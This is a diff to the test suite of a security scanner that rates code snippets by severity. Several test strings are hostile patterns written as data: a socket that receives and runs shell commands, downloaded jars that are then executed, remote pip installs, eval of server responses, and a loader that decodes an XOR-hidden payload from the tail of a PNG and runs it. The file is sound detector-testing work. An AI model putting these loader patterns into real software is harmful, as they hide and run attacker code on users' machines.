@@ -337,7 +337,7 @@ test('programs that start what was downloaded, packages of Python by their addre
   assert.equal(worst('const cp = require("child_process"), fs = require("fs"); const jar = home + "/lib.jar"; require("https").get(u, (r) => r.pipe(fs.createWriteStream(jar))); cp.spawn("java", ["-jar", jar])'), 'high');
   assert.equal(worst('import os, sys\nos.system(f"{sys.executable} -m pip install -q git+https://git.example.invalid/x")', 'a.py'), 'high');
   assert.equal(worst('import subprocess, socket\ns = socket.create_connection(("c.example.invalid", 1))\nsubprocess.run(s.recv(99).decode(), shell=True)', 'a.py'), 'critical');
-  for (const code of ['import os\nos.system("pip install torch --index-url https://download.example.org/whl/cu121")', 'import os\nos.system("pip install torch")']) assert.equal(worst(code, 'a.py'), 'nothing', code);
+  for (const code of ['import os\nos.system("pip install torch --index-url https://download.pytorch.org/whl/cu121")', 'import os\nos.system("pip install torch")']) assert.equal(worst(code, 'a.py'), 'nothing', code);
 });
 
 test('what a script reads from its input is not what is started', () => {
@@ -632,4 +632,12 @@ test('bad: what a server answers over HTTP/2', () => {
   const of = (then: string) => findingsOf(rule, { 'a.js': `const s = require("http2").connect("https://a.example.org"); const r = s.request({ ":path": "/x" }); r.on("data", (part) => ${then})` })[0]?.severity ?? 'nothing';
   assert.equal(of('eval(String(part))'), 'critical');
   assert.equal(of('console.log(String(part))'), 'nothing');
+});
+
+test('code that is cut out of a picture, in functions that hand it on', () => {
+  const start = 'const fs = require("fs"), path = require("path"), vm = require("vm"); function tail(file) { const data = fs.readFileSync(file); const at = data.indexOf(END); return at < 0 ? Buffer.alloc(0) : data.subarray(at + 8); } function open(bytes) { const key = bytes[0]; return Buffer.from(bytes.subarray(1).map((each, index) => each ^ key ^ (index & 15))); }';
+  const load = (file: string, run: string): string => worst(`${start} exports.load = (root) => { const bytes = tail(path.join(root, "images", "${file}")); const text = open(bytes).toString("utf8"); return ${run}; }`);
+  for (const run of ['new vm.Script(text, { filename: "a" }).runInThisContext()(require)', 'new Function("require", text)(require)', 'eval(text)']) assert.equal(load('banner.png', run), 'high', run);
+  assert.equal(load('banner.png', 'JSON.parse(text)'), 'nothing');
+  assert.equal(load('template.js', 'new vm.Script(text)'), 'nothing');
 });
